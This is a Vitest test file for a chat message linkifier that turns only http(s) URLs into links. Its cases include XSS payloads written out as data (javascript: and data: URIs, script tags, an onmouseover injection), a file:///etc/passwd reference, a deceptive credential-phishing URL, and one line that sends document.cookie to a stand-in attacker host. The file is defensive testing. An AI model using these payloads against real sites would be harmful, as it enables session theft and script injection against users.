// Links in message bodies (web/src/views/chat/linkify.tsx): only http(s) URLs, as Preact elements.
import type { VNode } from "preact";
import { describe, expect, it } from "vitest";
import { Linkified, linkParts, type Part } from "../../../web/src/views/chat/linkify";

const link = (href: string, text = href): Part => ({ href, text });

// [body, parts]
const CASES: Array<[string, Part[]]> = [
  ["no address here", ["no address here"]],
  ["https://example.org", [link("https://example.org/", "https://example.org")]],
  ["see http://example.org/a?b=1&c=2#top now", ["see ", link("http://example.org/a?b=1&c=2#top"), " now"]],
  [
    "two: https://a.example/x, https://b.example/y.",
    ["two: ", link("https://a.example/x"), ", ", link("https://b.example/y"), "."],
  ],
  ["(see https://example.org/a)", ["(see ", link("https://example.org/a"), ")"]],
  ["https://en.wikipedia.org/wiki/Foo_(bar)", [link("https://en.wikipedia.org/wiki/Foo_(bar)")]],
  ["really? https://example.org/!", ["really? ", link("https://example.org/"), "!"]],
  ["HTTPS://EXAMPLE.ORG/Path", [link("https://example.org/Path", "HTTPS://EXAMPLE.ORG/Path")]],
  ["line one\nhttps://example.org/x\nline three", ["line one\n", link("https://example.org/x"), "\nline three"]],
  ["https://例え.jp/パス", [link("https://xn--r8jz45g.jp/%E3%83%91%E3%82%B9", "https://例え.jp/パス")]],
  // hostile or not web addresses: text
  ["javascript:alert(1)", ["javascript:alert(1)"]],
  ["JaVaScRiPt:alert(document.cookie)//https", ["JaVaScRiPt:alert(document.cookie)//https"]],
  ["data:text/html,<script>alert(1)</script>", ["data:text/html,<script>alert(1)</script>"]],
  ["vbscript:msgbox(1) file:///etc/passwd ftp://example.org/", ["vbscript:msgbox(1) file:///etc/passwd ftp://example.org/"]],
  ["http:// nothing", ["http:// nothing"]],
  ["https://", ["https://"]],
  ["xhttps://example.org", ["xhttps://example.org"]],
  ["https://bank.example@evil.example/login", ["https://bank.example@evil.example/login"]],
  ["https://user:pw@example.org/", ["https://user:pw@example.org/"]],
  ['<a href="javascript:alert(1)">x</a>', ['<a href="javascript:alert(1)">x</a>']],
  // an address inside markup or quotes ends at the markup: the rest stays text
  ['<a href="https://example.org/">x</a>', ['<a href="', link("https://example.org/"), '">x</a>']],
  ['https://example.org/"onmouseover="alert(1)', [link("https://example.org/"), '"onmouseover="alert(1)']],
  ["https://example.org/<script>alert(1)</script>", [link("https://example.org/"), "<script>alert(1)</script>"]],
  [
    "javascript:fetch('https://evil.example/'+document.cookie)",
    ["javascript:fetch('", link("https://evil.example/"), "'+document.cookie)"],
  ],
];

describe("linkParts", () => {
  it.each(CASES)("%j", (body, parts) => {
    expect(linkParts(body)).toEqual(parts);
  });

  it("keeps every character of the body, in order", () => {
    for (const [body] of CASES) {
      expect(
        linkParts(body)
          .map((p) => (typeof p === "string" ? p : p.text))
          .join(""),
      ).toBe(body);
    }
  });

  it("is linear on long hostile input", () => {
    const body = `${"http://".repeat(20_000)}x ${"a".repeat(100_000)}`;
    const t0 = performance.now();
    linkParts(body);
    expect(performance.now() - t0).toBeLessThan(1000);
  });
});

describe("Linkified", () => {
  it("renders links as <a target=_blank rel='noopener noreferrer'> elements and the rest as strings", () => {
    const out = Linkified({ text: "hi https://example.org/x and javascript:alert(1)" }) as Array<string | VNode>;
    expect(out).toHaveLength(3);
    expect(out[0]).toBe("hi ");
    const a = out[1] as VNode<{ href: string; target: string; rel: string; children: string }>;
    expect(a.type).toBe("a");
    expect(a.props).toMatchObject({
      href: "https://example.org/x",
      target: "_blank",
      rel: "noopener noreferrer",
      children: "https://example.org/x",
    });
    expect(out[2]).toBe(" and javascript:alert(1)");
    expect(Linkified({ text: "<b>plain</b>" })).toBe("<b>plain</b>");
  });
});
